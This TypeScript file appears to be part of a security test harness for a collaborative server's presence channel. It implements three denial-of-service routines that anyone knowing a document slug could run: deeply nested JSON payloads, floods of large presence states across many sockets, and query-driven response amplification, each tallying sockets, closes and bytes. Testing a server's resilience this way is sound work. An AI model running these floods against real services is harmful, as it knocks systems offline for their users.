/** Presence that is deep, large or asked for again and again; by whoever knows a slug. */
import type { Wire } from '../wire.ts'
import { awarenessFrame, awarenessQuery, brackets, randomClient } from './hostile-bytes.ts'
import type { Attack, Facts, Target } from './order.ts'
import { type Outlet, pause } from './outlet.ts'

const nesting = 8_000
/** What one state may have, less what stands around it. */
const stateChars = 16 * 1024 - 40
const statesPerSocket = 8
/** Pause of a socket between two of its states. */
const betweenStatesMs = 50

const passing = ({ slug }: Target) => ({ slug, token: '' })

/** A state of many arrays in each other, then one that differs in the innermost. */
export async function nestBrackets(outlet: Outlet, { target, many }: Attack): Promise<Facts> {
  const facts = { sockets: 0, closes: 0, sent: 0 }
  for (let turn = 0; turn < many; turn++) {
    const wire = await outlet.connect({ ...passing(target), onClose: () => facts.closes++ })
    if (wire === undefined) continue
    facts.sockets++
    const client = randomClient()
    for (const [clock, inner] of ['1', '2'].entries()) {
      const json = brackets(nesting, inner)
      await outlet.send(wire, awarenessFrame([{ client, clock: clock + 1, json }]))
      facts.sent++
      await pause(500)
    }
    wire.close()
  }
  return facts
}

export async function floodPresence(outlet: Outlet, attack: Attack): Promise<Facts> {
  const { target, many, seconds } = attack
  const until = performance.now() + seconds * 1000
  const facts = { sockets: 0, closes: 0, states: 0 }
  const one = async () => {
    while (performance.now() < until) {
      let isClosed = false
      const onClose = () => {
        isClosed = true
        facts.closes++
      }
      const wire = await outlet.connect({ ...passing(target), onClose })
      if (wire === undefined) {
        await pause(200)
        continue
      }
      facts.sockets++
      const clients = Array.from({ length: statesPerSocket }, randomClient)
      for (let turn = 0; !isClosed && performance.now() < until; turn++) {
        const client = clients[turn % statesPerSocket] ?? 0
        await outlet.send(wire, awarenessFrame([largeState(client, turn + 1)]))
        facts.states++
        await pause(betweenStatesMs)
      }
      wire.close()
    }
  }
  await Promise.all(Array.from({ length: many }, one))
  return facts
}

const largeState = (client: number, clock: number) => ({
  client,
  clock,
  json: JSON.stringify({ filler: `${clock} `.repeat(stateChars / 2).slice(0, stateChars) }),
})

/** Some sockets make presence large, then one asks for all of it, a byte at a time. */
export async function floodQueries(outlet: Outlet, { target, many }: Attack): Promise<Facts> {
  const speakers: Wire[] = []
  for (let turn = 0; turn < 8; turn++) {
    const wire = await outlet.connect(passing(target))
    if (wire === undefined) continue
    speakers.push(wire)
    for (let left = statesPerSocket; left > 0; left--) {
      await outlet.send(wire, awarenessFrame([largeState(randomClient(), 1)]))
    }
  }
  await pause(500)
  let back = 0
  let closes = 0
  const onMessage = (payload: Buffer) => {
    back += payload.length
  }
  const asker = await outlet.connect({ ...passing(target), onMessage, onClose: () => closes++ })
  await pause(500)
  back = 0
  for (let left = many; left > 0 && asker !== undefined; left--) {
    await outlet.send(asker, awarenessQuery)
    await pause(20)
  }
  await pause(2_000)
  const facts = { queries: many, 'answered bytes': back, closes }
  asker?.close()
  for (const wire of speakers) wire.close()
  return facts
}
